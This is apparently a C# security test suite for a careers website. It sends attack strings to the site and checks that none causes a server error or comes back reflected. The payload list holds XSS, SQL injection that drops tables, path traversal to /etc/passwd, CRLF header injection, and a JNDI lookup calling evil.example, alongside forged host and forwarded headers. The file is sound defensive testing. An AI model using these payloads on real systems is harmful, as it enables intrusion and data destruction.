using System.Net;
using CareerCluster.Web.Tests.Infrastructure;

namespace CareerCluster.Web.Tests.Security;

public sealed class HostileInputFactory : CareerClusterFactory
{
    // Every hostile search must reach the search code, not the rate limiter.
    protected override IEnumerable<KeyValuePair<string, string>> Settings => [new("RateLimiting:SearchPermitsPerMinute", "100000")];
}

/// <summary>Without Site:BaseUrl (allowed outside Production) pages name the request's Host, so it must be checked.</summary>
public sealed class HostileInputWithoutBaseUrlFactory : DevelopmentFactory;

public sealed class HostHeaderTests(HostileInputWithoutBaseUrlFactory factory) : IClassFixture<HostileInputWithoutBaseUrlFactory>
{
    [Theory]
    [InlineData("/roles/nurses")]
    [InlineData("/compare?roles=nurses,genetics")]
    [InlineData("/")]
    public async Task A_long_or_malformed_host_is_a_400_and_a_good_one_names_the_page(string url)
    {
        foreach (var host in new[] { new string('a', 2500) + ".example", "a." + new string('b', 300), "exa mple.org", "example.org:99999", "[::1", "<script>" })
        {
            var context = await HostileInputTests.SendWithHostAsync(factory, url, host);
            Assert.True(context.Response.StatusCode == 400, $"Host {host[..Math.Min(40, host.Length)]}: {context.Response.StatusCode}");
            using var reader = new StreamReader(context.Response.Body);
            Assert.DoesNotContain(host, await reader.ReadToEndAsync(), StringComparison.Ordinal);
        }

        var good = await HostileInputTests.SendWithHostAsync(factory, url, "careers.example.org:8080");
        Assert.Equal(200, good.Response.StatusCode);
        using var goodReader = new StreamReader(good.Response.Body);
        Assert.Contains("http://careers.example.org:8080/", await goodReader.ReadToEndAsync(), StringComparison.Ordinal);
    }
}

/// <summary>Traversal, NUL, overlong, unicode, XSS, SQL and FTS syntax in paths and queries: never a 5xx, never reflected raw.</summary>
public sealed class HostileInputTests(HostileInputFactory factory, ITestOutputHelper output) : IClassFixture<HostileInputFactory>
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "' OR 1=1--",
        "'; DROP TABLE Roles;--",
        "1' UNION SELECT sql FROM sqlite_master--",
        "\"",
        "\"\"\"",
        "*",
        "**",
        "NEAR(",
        "NEAR(nurse genetics, 2)",
        "nurse OR",
        "AND nurse",
        "NOT",
        "-nurse",
        "title:nurse",
        "^nurse",
        "(nurse",
        "nurse)",
        "[nurse]",
        "{nurse}",
        "nurse*",
        "\"nurse",
        "%",
        "_",
        "\\",
        ":",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2f",
        "\0",
        "nurse\0genetics",
        "💉🩺 nurse",
        "ñandú",
        "日本語",
        "\u202Eevil",
        "Ⓝⓤⓡⓢⓔ",
        new string('a', 5000),
        "nurse\r\nSet-Cookie: evil=1",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "@(1+1)",
        "&lt;script&gt;",
        "&#60;script&#62;",
        " ",
        "",
    ];

    private static readonly Func<string, string>[] Targets =
    [
        p => "/search?q=" + Uri.EscapeDataString(p),
        p => "/roles/" + Uri.EscapeDataString(p),
        p => "/pathways/" + Uri.EscapeDataString(p),
        p => "/clusters/" + Uri.EscapeDataString(p),
        p => "/compare?roles=" + Uri.EscapeDataString(p),
        p => "/compare?roles=nurses," + Uri.EscapeDataString(p) + ",genomics-healthcare-scientist",
        p => "/roles?region=" + Uri.EscapeDataString(p),
        p => "/roles?cluster=" + Uri.EscapeDataString(p) + "&pathway=" + Uri.EscapeDataString(p) + "&setting=" + Uri.EscapeDataString(p) + "&pay=" + Uri.EscapeDataString(p),
        p => "/?" + Uri.EscapeDataString(p) + "=" + Uri.EscapeDataString(p),
        p => "/faq?q=" + Uri.EscapeDataString(p),
    ];

    private static void AssertNotReflected(string url, string body)
    {
        Assert.DoesNotContain("<script>alert", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img src=x", body, StringComparison.OrdinalIgnoreCase);
        Assert.False(body.Contains("\"><script", StringComparison.Ordinal), url);
    }

    [Fact]
    public async Task Hostile_paths_and_queries_never_get_a_5xx_or_a_reflection()
    {
        var client = factory.CreateNoRedirectClient();
        var statuses = new Dictionary<int, int>();
        var count = 0;
        // Every payload against search and a role path, and against two of the other targets in turn.
        for (var i = 0; i < Payloads.Length; i++)
        {
            var payload = Payloads[i];
            Func<string, string>[] targets = [Targets[0], Targets[1], Targets[2 + (i % (Targets.Length - 2))], Targets[2 + ((i + 3) % (Targets.Length - 2))]];
            foreach (var target in targets)
            {
                var url = target(payload);
                HttpResponseMessage response;
                try
                {
                    response = await client.GetAsync(new Uri("http://localhost" + url));
                }
                catch (InvalidOperationException ex) when (ex.Message.Contains("null characters", StringComparison.Ordinal))
                {
                    // TestServer refuses a %00 in the path before the app, as Kestrel does with a 400.
                    statuses[400] = statuses.GetValueOrDefault(400) + 1;
                    count++;
                    continue;
                }

                var body = await response.Content.ReadAsStringAsync();
                var status = (int)response.StatusCode;
                statuses[status] = statuses.GetValueOrDefault(status) + 1;
                count++;
                Assert.True(status < 500, $"{url[..Math.Min(200, url.Length)]}: {status}");
                AssertNotReflected(url, body);
                Assert.False(response.Headers.Contains("Set-Cookie"), url);
                if (response.Headers.Location is { } location)
                {
                    Assert.DoesNotContain("<", location.OriginalString, StringComparison.Ordinal);
                    Assert.DoesNotContain("\n", location.OriginalString, StringComparison.Ordinal);
                }
            }
        }

        output.WriteLine($"{count} hostile requests: " + string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key} x{s.Value}")));
        Assert.True(count >= 100);
        Assert.DoesNotContain(429, statuses.Keys);
    }

    [Theory]
    [InlineData("/roles/../../etc/passwd")]
    [InlineData("/roles/..%2f..%2fetc%2fpasswd")]
    [InlineData("/roles/%2e%2e/%2e%2e/etc/passwd")]
    [InlineData("/../appsettings.json")]
    [InlineData("/css/../../appsettings.json")]
    [InlineData("/css/..%2f..%2fappsettings.json")]
    [InlineData("/roles/nurses%00.md")]
    [InlineData("/roles/nurses\0")]
    [InlineData("/roles/%ff%fe")]
    [InlineData("/roles/%c0%ae%c0%ae/")]
    [InlineData("/%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("/roles/<script>alert(1)</script>")]
    [InlineData("/ROLES/<SCRIPT>ALERT(1)</SCRIPT>/")]
    [InlineData("/web.config")]
    [InlineData("/content/README.md")]
    [InlineData("/data/careers.db")]
    public async Task Raw_hostile_paths_are_answered_safely(string rawPath)
    {
        var context = await factory.Server.SendAsync(c =>
        {
            c.Request.Method = "GET";
            c.Request.Path = rawPath.Contains('%', StringComparison.Ordinal) && !rawPath.Contains("%00", StringComparison.Ordinal)
                ? Microsoft.AspNetCore.Http.PathString.FromUriComponent(rawPath)
                : new Microsoft.AspNetCore.Http.PathString(rawPath);
        });

        Assert.True(context.Response.StatusCode < 500, $"{rawPath}: {context.Response.StatusCode}");
        using var reader = new StreamReader(context.Response.Body);
        var body = await reader.ReadToEndAsync();
        AssertNotReflected(rawPath, body);
        Assert.DoesNotContain("ConnectionStrings", body, StringComparison.Ordinal);
        Assert.DoesNotContain("SQLite format", body, StringComparison.Ordinal);
        Assert.DoesNotContain("root:x:0:0", body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/roles/nurses")]
    [InlineData("/compare?roles=nurses,genetics")]
    [InlineData("/")]
    [InlineData("/sitemap.xml")]
    public async Task A_long_or_malformed_host_header_is_never_a_5xx(string url)
    {
        string[] hosts = [new string('a', 2500) + ".example", "a." + new string('b', 300), "exa mple.org", "example.org:99999", "[::1", "-bad-.example"];
        foreach (var host in hosts)
        {
            var context = await SendWithHostAsync(factory, url, host);

            Assert.True(context.Response.StatusCode < 500, $"{url} with Host {host[..Math.Min(40, host.Length)]}: {context.Response.StatusCode}");
            using var reader = new StreamReader(context.Response.Body);
            Assert.DoesNotContain(host, await reader.ReadToEndAsync(), StringComparison.Ordinal);
        }
    }

    internal static Task<Microsoft.AspNetCore.Http.HttpContext> SendWithHostAsync(CareerClusterFactory factory, string url, string host)
    {
        var uri = new Uri("http://localhost" + url);
        return factory.Server.SendAsync(c =>
        {
            c.Request.Method = "GET";
            c.Request.Path = uri.AbsolutePath;
            c.Request.QueryString = new Microsoft.AspNetCore.Http.QueryString(uri.Query);
            c.Request.Host = new Microsoft.AspNetCore.Http.HostString(host);
        });
    }

    [Theory]
    [InlineData("/roles/nurses")]
    [InlineData("/no-such-page")]
    [InlineData("/error/500")]
    [InlineData("/error/000123")]
    [InlineData("/search?q=%3Cscript%3E")]
    [InlineData("/roles/%0Aforged")]
    public async Task Head_requests_are_answered_like_get_without_a_body_and_never_a_5xx(string url)
    {
        var client = factory.CreateNoRedirectClient();
        var get = await client.GetAsync(new Uri(url, UriKind.Relative));
        using var request = new HttpRequestMessage(HttpMethod.Head, url);

        var head = await client.SendAsync(request);

        Assert.Equal(get.StatusCode, head.StatusCode);
        Assert.True((int)head.StatusCode < 500, $"{url}: {(int)head.StatusCode}");
        Assert.Empty(await head.Content.ReadAsByteArrayAsync());
    }

    [Theory]
    [InlineData("X-Forwarded-Host", "evil.example")]
    [InlineData("X-Forwarded-Host", "<script>alert(1)</script>")]
    [InlineData("X-Forwarded-Proto", "javascript")]
    [InlineData("X-Forwarded-For", "not-an-ip, 1.2.3.4, ::1")]
    [InlineData("X-Forwarded-For", "999.999.999.999")]
    [InlineData("Forwarded", "for=\"<script>\";host=evil.example")]
    public async Task Forwarded_headers_from_untrusted_clients_change_nothing(string header, string value)
    {
        foreach (var remote in new[] { "203.0.113.9", "2001:db8::9", "127.0.0.1" })
        {
            var context = await factory.Server.SendAsync(c =>
            {
                c.Request.Method = "GET";
                c.Request.Path = "/roles/nurses";
                c.Request.Headers[header] = value;
                c.Connection.RemoteIpAddress = IPAddress.Parse(remote);
            });
            using var reader = new StreamReader(context.Response.Body);
            var page = Html.Parse(await reader.ReadToEndAsync());

            Assert.Equal(200, context.Response.StatusCode);
            Assert.Equal("http://localhost/roles/nurses", page.QuerySelector("link[rel='canonical']")?.GetAttribute("href"));
        }
    }

    [Theory]
    [InlineData("/roles/nurses%0D%0Aforged")]
    [InlineData("/roles/%E2%80%AEevil")]
    [InlineData("/roles/%252e%252e")]
    [InlineData("/roles/nurses%2F..%2F..%2Fsecret")]
    [InlineData("/roles/%C0%AF")]
    [InlineData("/roles;jsessionid=1")]
    [InlineData("/roles/nurses/%20")]
    public async Task Encoded_paths_are_answered_with_a_4xx_or_a_redirect(string url)
    {
        var client = factory.CreateNoRedirectClient();

        var response = await client.GetAsync(new Uri("http://localhost" + url));

        Assert.True((int)response.StatusCode is >= 300 and < 500, $"{url}: {(int)response.StatusCode}");
        AssertNotReflected(url, await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Overlong_search_gets_a_friendly_400()
    {
        var client = factory.CreateNoRedirectClient();

        var page = await client.GetPageAsync("/search?q=" + new string('x', 201));

        Assert.Equal(HttpStatusCode.BadRequest, page.Response.StatusCode);
        Assert.Single(page.Document.QuerySelectorAll("h1"));
        Assert.NotNull(page.Document.QuerySelector("header.site-header"));
    }
}
